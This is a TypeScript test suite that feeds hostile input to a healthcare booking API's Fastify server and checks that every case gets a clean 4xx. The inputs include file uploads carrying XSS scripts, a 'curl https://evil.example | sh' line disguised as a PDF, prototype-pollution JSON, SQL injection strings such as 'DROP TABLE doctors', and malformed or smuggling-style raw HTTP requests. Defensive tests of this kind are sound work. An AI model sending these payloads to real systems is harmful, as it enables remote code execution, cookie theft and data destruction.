// Attacks with hostile input, against a real server process over TCP: files whose bytes lie about their type or
// that are too large, bodies that are too large, malformed, mistyped, incomplete, over-complete or in another
// media type, SQL- and LIKE-shaped doctor searches, and requests Fastify or Node's parser refuse before any route
// runs. Nothing may answer 500 or leave a stack trace in the log.
import { connect } from 'node:net';
import { errorsOf, validatorAt } from '@aafiyat/api/testing';
import { ATTACHMENT_MESSAGES } from '@aafiyat/domain';
import Fastify, { type FastifyInstance, type FastifyServerOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answerFrameworkError } from '../src/http/errors';
import { multipartBody, PDF_BYTES, PNG_BYTES } from './care-support';
import { uniquePhone } from './auth-support';
import { fixturesOf } from './security-fixtures';
import {
  clientOf,
  freshAddress,
  patientSignIn,
  sessionCookie,
  STACK_TRACE,
  startTarget,
  type Answer,
  type RequestOptions,
  type Target,
} from './security-support';

const CONTENT_MISMATCH =
  "This file's content does not match its name. Only real JPG, PNG, GIF, PDF, TXT and DOCX files can be attached.";

/** The fixture doctors: name, specialty, city. */
const DOCTORS = [
  ['Dr. Sana Mirza', 'Cardiologist', 'Karachi'],
  ['Dr. Imran Qureshi', 'General Physician', 'Lahore'],
  ['Dr. Ayesha Siddiqui', 'Dermatologist', 'Karachi'],
  ['Dr. Zoë Khan', 'Child Specialist', 'Islamabad'],
  ['Dr. ثنا مرزا', 'Cardiologist', 'Lahore'],
] as const;

let target: Target;
let cookie: string;
/** Every status the attacks were answered with, checked for 500s at the end. */
const statuses: number[] = [];

beforeAll(async () => {
  const started = await startTarget({
    env: { LOG_LEVEL: 'info' },
    prepare: async (db) => {
      const make = fixturesOf(db);
      for (const [index, [name, specialty, city]] of DOCTORS.entries()) {
        await make.doctor(name, `7300${String(index)}-S`, { specialty, city });
      }
    },
  });
  target = started.target;
  cookie = sessionCookie(await patientSignIn(target.url, uniquePhone(), { name: 'Ayesha Khan' }));
});

afterAll(async () => {
  await target.stop();
});

async function attack(method: string, path: string, options: RequestOptions = {}): Promise<Answer> {
  const answer = await clientOf(target.url).request(method, path, options);
  statuses.push(answer.status);
  return answer;
}

const upload = (name: string, type: string, bytes: Buffer) => {
  const body = multipartBody(name, type, bytes);
  return attack('POST', '/api/patient/attachments', { body: body.payload, headers: body.headers, cookie });
};
const attachments = async () =>
  (await attack('GET', '/api/patient/attachments', { cookie })).json<{
    data: { id: number; file_name: string }[];
  }>().data;

describe('uploads', () => {
  it('refuse files whose bytes are not what their name and type say, and store none', async () => {
    const html = Buffer.from(
      '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
    );
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    );
    const cases: [string, string, Buffer, string][] = [
      ['x-ray.png', 'image/png', html, CONTENT_MISMATCH],
      ['scan.png', 'image/png', svg, CONTENT_MISMATCH],
      [
        'report.pdf',
        'application/pdf',
        Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
        CONTENT_MISMATCH,
      ],
      ['photo.jpg', 'image/jpeg', PNG_BYTES, CONTENT_MISMATCH],
      [
        'notes.txt',
        'text/plain',
        Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00]),
        CONTENT_MISMATCH,
      ],
      ['page.html', 'text/html', html, ATTACHMENT_MESSAGES.notAllowed],
      ['report.pdf.html', 'application/pdf', PDF_BYTES, ATTACHMENT_MESSAGES.notAllowed],
      ['setup.exe', 'application/octet-stream', Buffer.from('MZ\x90\x00'), ATTACHMENT_MESSAGES.notAllowed],
      ['x-ray.png', 'text/html', PNG_BYTES, ATTACHMENT_MESSAGES.notAllowed],
      ['x-ray.png', 'application/pdf', PNG_BYTES, ATTACHMENT_MESSAGES.typeMismatch],
    ];
    for (const [name, type, bytes, message] of cases) {
      const answer = await upload(name, type, bytes);
      console.log(
        `${name} as ${type}: ${String(answer.status)} ${answer.json<{ message: string }>().message}`,
      );
      expect(answer.status, name).toBe(400);
      expect(answer.json(), `${name} as ${type}`).toEqual({
        code: 'file_type_not_allowed',
        message,
        fields: [{ path: 'body/file', code: 'file_type_not_allowed', message }],
      });
    }
    expect(await attachments()).toEqual([]);
  });

  it('refuse a file over 5 MB with 413 and the spec’s message, store nothing, and keep serving', async () => {
    for (const size of [5_242_881, 12 * 1024 * 1024]) {
      const bytes = Buffer.concat([PNG_BYTES, Buffer.alloc(size - PNG_BYTES.length)]);
      const answer = await upload('big-scan.png', 'image/png', bytes);
      console.log(`a ${String(size)}-byte PNG: ${String(answer.status)} ${answer.text}`);
      expect(answer.status).toBe(413);
      expect(answer.json()).toEqual({ code: 'file_too_large', message: 'This file is larger than 5 MB.' });
    }
    expect(await attachments()).toEqual([]);
    expect((await upload('scan.png', 'image/png', PNG_BYTES)).status).toBe(201);
  });

  it('serve a stored text file that holds markup as a download the browser will not render', async () => {
    const stored = await upload(
      'notes.txt',
      'text/plain',
      Buffer.from('<script>alert(document.cookie)</script>\n'),
    );
    expect(stored.status).toBe(201);
    const id = stored.json<{ id: number }>().id;
    const download = await attack('GET', `/api/patient/attachments/${String(id)}`, { cookie });
    expect(download.status).toBe(200);
    expect(String(download.headers['content-type'])).toMatch(/^text\/plain/);
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect(String(download.headers['content-disposition'])).toMatch(/^attachment; filename="notes\.txt"/);
    expect(String(download.headers['content-security-policy'])).toContain("default-src 'self'");
  });
});

const PROFILE = '/api/patient/profile';

describe('request bodies', () => {
  it('answer 413 over the body limit', async () => {
    for (const size of [70 * 1024, 2 * 1024 * 1024]) {
      const answer = await attack('PATCH', PROFILE, { json: { name: 'a'.repeat(size) }, cookie });
      expect(answer.status, String(size)).toBe(413);
      expect(answer.json()).toEqual({ code: 'payload_too_large', message: 'This request is too large.' });
    }
  });

  it('answer 400 for malformed JSON, poisoned prototypes and deep nesting', async () => {
    const notJson = { code: 'validation_failed', message: 'The request body is not valid JSON.' };
    const bodies = [
      '{"name": ',
      '{"name": "Ayesha",}',
      "{'name': 'Ayesha'}",
      '',
      Buffer.from([0x7b, 0x22, 0x6e, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
    ];
    for (const body of bodies) {
      const answer = await attack('PATCH', PROFILE, {
        body,
        headers: { 'content-type': 'application/json' },
        cookie,
      });
      console.log(`body ${JSON.stringify(body.toString())}: ${String(answer.status)} ${answer.text}`);
      expect(answer.status).toBe(400);
      expect(answer.json<{ code: string }>().code).toBe('validation_failed');
    }
    for (const body of [
      '{"__proto__": {"role": "doctor"}, "name": "Ayesha"}',
      '{"constructor": {"prototype": {"role": "doctor"}}}',
    ]) {
      const answer = await attack('PATCH', PROFILE, {
        body,
        headers: { 'content-type': 'application/json' },
        cookie,
      });
      console.log(`poisoned ${body}: ${String(answer.status)} ${answer.text}`);
      expect(answer.status).toBe(400);
    }
    const deep = `{"name": ${'['.repeat(20_000)}${']'.repeat(20_000)}}`;
    const nested = await attack('PATCH', PROFILE, {
      body: deep,
      headers: { 'content-type': 'application/json' },
      cookie,
    });
    expect(nested.status).toBe(400);
    expect(nested.json()).toMatchObject({ code: 'validation_failed' });
    const malformed = await attack('PATCH', PROFILE, {
      body: '{"name"',
      headers: { 'content-type': 'application/json' },
      cookie,
    });
    expect(malformed.json()).toEqual(notJson);
  });

  it('answer 400 with the contract’s error body for wrong types, missing fields and unknown fields', async () => {
    const cases: [string, string, unknown, { path: string; code: string; message: string }[]][] = [
      [
        'PATCH',
        PROFILE,
        { name: 123 },
        [{ path: 'body/name', code: 'wrong_type', message: 'Name has the wrong type.' }],
      ],
      [
        'PATCH',
        PROFILE,
        { name: ['Ayesha'] },
        [{ path: 'body/name', code: 'wrong_type', message: 'Name has the wrong type.' }],
      ],
      // PostgreSQL cannot store a NUL character in text: it must be refused before it reaches a query.
      [
        'PATCH',
        PROFILE,
        { name: 'Ayesha\u0000Khan' },
        [{ path: 'body/name', code: 'invalid_character', message: 'Name must not contain a NUL character.' }],
      ],
      [
        'PATCH',
        PROFILE,
        { name: 'Ayesha', is_admin: true },
        [{ path: 'body/is_admin', code: 'not_allowed', message: '"is_admin" is not an accepted field.' }],
      ],
      [
        'PATCH',
        PROFILE,
        { chronic_diseases: ['<script>'] },
        [
          {
            path: 'body/chronic_diseases/0',
            code: 'invalid_choice',
            message: 'Chronic diseases must be one of the listed choices.',
          },
        ],
      ],
      [
        'POST',
        '/api/demo_request/add',
        { name: 'Ayesha' },
        [
          { path: 'body/phone_number', code: 'required', message: 'Phone number is required.' },
          { path: 'body/email', code: 'required', message: 'Email is required.' },
          { path: 'body/demo_for', code: 'required', message: 'Demo for is required.' },
        ],
      ],
      [
        'POST',
        '/api/auth/send-verification-code',
        { phone_number: 3001234567 },
        [{ path: 'body/phone_number', code: 'wrong_type', message: 'Enter a valid Mobile Number' }],
      ],
    ];
    for (const [method, path, json, fields] of cases) {
      const answer = await attack(method, path, { json, cookie });
      console.log(`${method} ${path} ${JSON.stringify(json)}: ${String(answer.status)} ${answer.text}`);
      expect(answer.status).toBe(400);
      const body = answer.json<{
        code: string;
        message: string;
        fields: { path: string; message: string }[];
      }>();
      expect(body.code).toBe('validation_failed');
      expect(body.message).toBe(body.fields[0]?.message);
      expect(body.fields).toEqual(expect.arrayContaining(fields));
    }
    expect((await attack('GET', PROFILE, { cookie })).json()).toMatchObject({
      name: 'Ayesha Khan',
      chronic_diseases: [],
    });
  });

  it('answer 415 for a body in another media type', async () => {
    const cases: [string, string][] = [
      ['text/plain', '{"name":"Ayesha"}'],
      ['application/x-www-form-urlencoded', 'name=Ayesha'],
      ['application/xml', '<name>Ayesha</name>'],
      [
        'multipart/form-data; boundary=x',
        '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nAyesha\r\n--x--\r\n',
      ],
    ];
    for (const [type, body] of cases) {
      const answer = await attack('PATCH', PROFILE, { body, headers: { 'content-type': type }, cookie });
      console.log(`${type}: ${String(answer.status)} ${answer.text}`);
      expect(answer.status, type).toBe(415);
      expect(answer.json<{ code: string }>().code).toBe('unsupported_media_type');
    }
  });
});

describe('doctor search', () => {
  const search = async (query: string) => {
    const answer = await attack('GET', `/api/doctors/search?${query}`);
    return { status: answer.status, body: answer.json<{ total: number; data: { name: string }[] }>() };
  };
  const PAYLOADS = [
    "' OR 1=1 --",
    "'; DROP TABLE doctors; --",
    '" OR ""="',
    '%',
    '_',
    '\\',
    '%%',
    '\\%',
    'Sana%',
    "Sana' OR 'a'='a",
    'ثنا',
    'Zoë',
    '🩺',
    'a\u0000b',
  ];

  it('takes SQL- and LIKE-shaped text in q, city and specialty literally, and leaves the table whole', async () => {
    const plain = await search('q=sana');
    expect(plain.status).toBe(200);
    expect(plain.body.data.map((doctor) => doctor.name)).toEqual(['Dr. Sana Mirza']);
    expect((await search('city=Karachi')).body.total).toBe(2);

    for (const payload of PAYLOADS) {
      const encoded = encodeURIComponent(payload);
      for (const parameter of ['q', 'city', 'specialty']) {
        const { status, body } = await search(`${parameter}=${encoded}`);
        // Free text matches where the text appears as typed; a city or specialty must be one exactly.
        const expected =
          parameter === 'q'
            ? DOCTORS.filter(([name, specialty, city]) =>
                `${name} ${specialty} ${city}`.toLowerCase().includes(payload.toLowerCase()),
              ).length
            : 0;
        console.log(
          `${parameter}=${JSON.stringify(payload)}: ${String(status)}, ${status === 200 ? String(body.total) : JSON.stringify(body)}`,
        );
        expect([200, 400], `${parameter}=${payload}`).toContain(status);
        if (status === 200) expect(body.total, `${parameter}=${payload}`).toBe(expected);
      }
    }
    expect((await search('q=%C3%AB')).body.total).toBe(1);

    const all = await search('page_size=50');
    expect(all.body.total).toBe(DOCTORS.length);
    const specialities = await attack('GET', '/api/specialities');
    expect(specialities.status).toBe(200);
  });

  it('answers 400 for parameters of the wrong shape', async () => {
    for (const query of [
      'page=1%20OR%201=1',
      'page=-1',
      'page_size=1e309',
      'q=a&q=b',
      'is_online=1;DROP',
      'page=99999999999',
    ]) {
      const { status, body } = await search(query);
      console.log(`${query}: ${String(status)} ${JSON.stringify(body)}`);
      expect(status, query).toBe(400);
    }
  });
});

const errorBody = validatorAt('#/components/schemas/ErrorBody');

/** Asserts an answer is JSON and the contract's `ErrorBody` with this status, code and message. */
function expectRefusal(
  answer: { status: number; headers: Record<string, string | string[] | undefined>; text: string },
  expected: { status: number; code: string; message: string },
  label: string,
): void {
  expect(answer.status, label).toBe(expected.status);
  expect(String(answer.headers['content-type']), label).toMatch(/^application\/json\b/);
  const body: unknown = JSON.parse(answer.text);
  expect(errorBody(body), `${label}: ${errorsOf(errorBody)}`).toBe(true);
  expect(body, label).toEqual({ code: expected.code, message: expected.message });
}

/** An answer read off a raw connection: the status line and headers as sent, the body as text. */
interface RawAnswer {
  status: number;
  headers: Record<string, string>;
  text: string;
}

/**
 * Writes `bytes` on a new connection from a loopback address of its own and reads until the server closes it:
 * for requests Node's HTTP client will not send, and to see the answer exactly as it went on the wire.
 */
function exchange(bytes: string): Promise<RawAnswer> {
  const base = new URL(target.url);
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    const socket = connect(
      { host: base.hostname, port: Number(base.port), localAddress: freshAddress() },
      () => {
        socket.write(bytes);
      },
    );
    socket.setTimeout(10_000, () => {
      socket.destroy(new Error('the server neither answered nor closed the connection'));
    });
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', reject);
    socket.on('close', () => {
      const text = Buffer.concat(chunks).toString('utf8');
      const split = text.indexOf('\r\n\r\n');
      const [statusLine = '', ...lines] = text.slice(0, split).split('\r\n');
      const headers = Object.fromEntries(
        lines.map((line) => [
          line.slice(0, line.indexOf(':')).toLowerCase(),
          line.slice(line.indexOf(':') + 1).trim(),
        ]),
      );
      const status = Number(/^HTTP\/1\.1 (\d{3}) /.exec(statusLine)?.[1] ?? 0);
      statuses.push(status);
      resolve({ status, headers, text: split < 0 ? '' : text.slice(split + 4) });
    });
  });
}

const TOO_LONG = {
  status: 431,
  code: 'request_header_fields_too_large',
  message: "This request's address or headers are too long.",
};
const UNREADABLE = { status: 400, code: 'malformed_request', message: 'This request could not be read.' };

describe('requests refused before any route runs', () => {
  it('answer headers over Node’s limit with 431 and the contract’s error body', async () => {
    // Node's limit is 16 KB for the request line and headers together; one header or many, a cookie too.
    const cases: [string, Record<string, string>][] = [
      ['one long header', { 'x-padding': 'a'.repeat(17 * 1024) }],
      [
        'many headers',
        Object.fromEntries(
          Array.from({ length: 400 }, (_, index) => [`x-h${String(index)}`, 'a'.repeat(50)]),
        ),
      ],
      ['a long cookie', { cookie: `aafiyat_session=${'a'.repeat(20 * 1024)}` }],
    ];
    for (const [label, headers] of cases) {
      const answer = await attack('GET', '/api/specialities', { headers });
      console.log(`${label}: ${String(answer.status)} ${answer.text}`);
      expectRefusal(answer, TOO_LONG, label);
    }
  });

  it('answer an address over the limit with 431 on a connection the server closes', async () => {
    for (const path of [`/api/doctors/search?q=${'a'.repeat(17 * 1024)}`, `/${'a'.repeat(17 * 1024)}`]) {
      const answer = await exchange(`GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`);
      console.log(`GET ${path.slice(0, 30)}… (${String(path.length)} characters): ${String(answer.status)}`);
      expectRefusal(answer, TOO_LONG, path.slice(0, 30));
      expect(answer.headers.connection).toBe('close');
      expect(Number(answer.headers['content-length'])).toBe(Buffer.byteLength(answer.text));
    }
  });

  it('answer a request that is not HTTP with 400 and the contract’s error body', async () => {
    const cases = [
      'NOT A REQUEST\r\n\r\n',
      'GET / HTTP/9.9\r\nHost: localhost\r\n\r\n',
      'GET / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n',
      'GE T / HTTP/1.1\r\nHost: localhost\r\n\r\n',
      'GET / HTTP/1.1\r\nBad Header: x\r\n\r\n',
      'GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n',
      '\u0000\u0001\u0002\r\n\r\n',
    ];
    for (const request of cases) {
      const answer = await exchange(request);
      console.log(`${JSON.stringify(request)}: ${String(answer.status)} ${answer.text}`);
      expectRefusal(answer, UNREADABLE, JSON.stringify(request));
      expect(answer.headers.connection).toBe('close');
    }
    // The server keeps serving.
    expect((await attack('GET', '/api/specialities')).status).toBe(200);
  });

  it('answer a chunked body Node cannot read with the contract’s error body, though the route has begun', async () => {
    // Node hands the request to Fastify once its headers are in; the broken chunk is found after that, while the
    // route waits for its body and has answered nothing yet.
    const head =
      `POST /api/contact-us/add HTTP/1.1\r\nHost: ${new URL(target.url).host}\r\nOrigin: ${target.url}\r\n` +
      'Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n';
    const cases: [string, string, { status: number; code: string; message: string }][] = [
      ['a chunk size that is not hexadecimal', 'zz\r\n', UNREADABLE],
      [
        'chunk extensions over 16 KB',
        `1;${'a'.repeat(17 * 1024)}\r\n`,
        { status: 413, code: 'payload_too_large', message: 'This request is too large.' },
      ],
    ];
    for (const [label, chunk, expected] of cases) {
      const answer = await exchange(head + chunk);
      console.log(`${label}: ${String(answer.status)} ${answer.text}`);
      expectRefusal(answer, expected, label);
      expect(answer.headers.connection).toBe('close');
    }
    expect((await attack('GET', '/api/specialities')).status).toBe(200);
  });

  it('answer a bad percent-escape in the path with 400 and the contract’s error body', async () => {
    for (const path of ['/api/doctors/%E0%A4%A', '/api/doctors/%zz', '/%E0%A4%A', '/api/%']) {
      const answer = await attack('GET', path);
      console.log(`GET ${path}: ${String(answer.status)} ${answer.text}`);
      expectRefusal(
        answer,
        { status: 400, code: 'invalid_url', message: 'This address is not valid.' },
        path,
      );
    }
  });

  it('answer a path parameter over Fastify’s limit with 414, without quoting it back', async () => {
    // Fastify's own body quoted the whole path: here a phone number, which must not come back (nor be logged).
    const path = `/api/doctors/${'0300123456'.repeat(11)}`;
    const answer = await attack('GET', path);
    console.log(`GET ${path}: ${String(answer.status)} ${answer.text}`);
    expectRefusal(answer, { status: 414, code: 'uri_too_long', message: 'This address is too long.' }, path);
    // At the limit (100 characters) the route runs: its own validation refuses a PMDC number that long.
    const under = await attack('GET', `/api/doctors/${'7'.repeat(100)}`);
    expect(under.status).toBe(400);
    expect(under.json<{ code: string }>().code).toBe('validation_failed');
    expect(target.process.output()).not.toContain('0300123456');
  });

  it('answer odd and broken media types with a 4xx and the contract’s error body, or accept them', async () => {
    const body = JSON.stringify({ name: 'Ayesha Khan' });
    const types = [
      '',
      ';',
      ' ',
      'application/',
      '/json',
      'application/json;',
      'application/json; charset',
      'application/json; charset=utf-16',
      'application/json; charset="',
      'application/json, text/plain',
      'application, text/plain',
      'APPLICATION/JSON',
      'application/jsonp',
      'application/merge-patch+json',
      'application/octet-stream',
      'multipart/form-data',
      'multipart/form-data; boundary=',
      'multipart/form-data; boundary=other',
      'application/x-www-form-urlencoded; charset=utf-8',
      '*/*',
    ];
    const seen: string[] = [];
    for (const type of types) {
      const answer = await attack('PATCH', PROFILE, { body, headers: { 'content-type': type }, cookie });
      seen.push(`${JSON.stringify(type)}: ${String(answer.status)} ${answer.text}`);
      if (answer.status === 200) continue;
      expect(answer.status, type).toBeGreaterThanOrEqual(400);
      expect(answer.status, type).toBeLessThan(500);
      expect(String(answer.headers['content-type']), type).toMatch(/^application\/json\b/);
      const parsed: unknown = answer.json();
      expect(errorBody(parsed), `${type}: ${errorsOf(errorBody)}`).toBe(true);
      expect(parsed, type).toMatchObject({ code: expect.any(String) as string });
    }
    console.log(seen.join('\n'));
  });
});

type ConstraintStrategy = NonNullable<FastifyServerOptions['constraints']>[string];

describe('a failed asynchronous route constraint', () => {
  // The app declares no asynchronous constraint, so only an app that has one can show the answer: a small one
  // here, with the same `frameworkErrors` handler as the server's.
  let app: FastifyInstance;

  beforeAll(async () => {
    const handlers = new Map<string, unknown>();
    const failing = {
      name: 'tenant',
      storage: () => ({
        get: (value: string) => handlers.get(value) ?? null,
        set: (value: string, handler: unknown) => {
          handlers.set(value, handler);
        },
      }),
      // Three arguments make it asynchronous to Fastify; this one always fails.
      deriveConstraint: (_request: unknown, _context: unknown, done: (error: Error | null) => void) => {
        done(new Error('the tenant directory is down'));
      },
      validate: () => undefined,
    };
    app = Fastify({
      frameworkErrors: answerFrameworkError,
      // Fastify's types know only the synchronous form of `deriveConstraint`.
      constraints: { tenant: failing as unknown as ConstraintStrategy },
    });
    app.get('/', { constraints: { tenant: 'clinic' } }, () => ({ ok: true }));
    await app.listen({ host: '127.0.0.1', port: 0 });
  });

  afterAll(async () => {
    await app.close();
  });

  it('answers 400 with the contract’s error body, not Fastify’s 500', async () => {
    const address = app.server.address();
    if (address === null || typeof address === 'string') throw new Error('the app is not listening');
    const answer = await clientOf(`http://127.0.0.1:${String(address.port)}`).request('GET', '/');
    console.log(`async constraint: ${String(answer.status)} ${answer.text}`);
    expectRefusal(
      answer,
      { status: 400, code: 'bad_request', message: 'This request could not be matched to an address.' },
      'async constraint',
    );
  });
});

describe('the process', () => {
  it('answered no attack with a 500 and logged no stack trace', async () => {
    // Odd URLs too: bad percent-encoding in a page path and in a query.
    for (const path of [
      '/%E0%A4%A',
      '/doctors/search?q=%E0%A4%A',
      '/api/doctors/search?q=%E0%A4%A',
      '/api/%00',
    ]) {
      const answer = await attack('GET', path);
      console.log(`GET ${path}: ${String(answer.status)}`);
    }
    const failures = statuses.filter((status) => status >= 500);
    console.log(`${String(statuses.length)} attack answers; 5xx: ${String(failures.length)}`);
    expect(failures).toEqual([]);
    const output = target.process.output();
    expect(output).not.toMatch(STACK_TRACE);
    expect(output).not.toContain('request failed');
  });
});
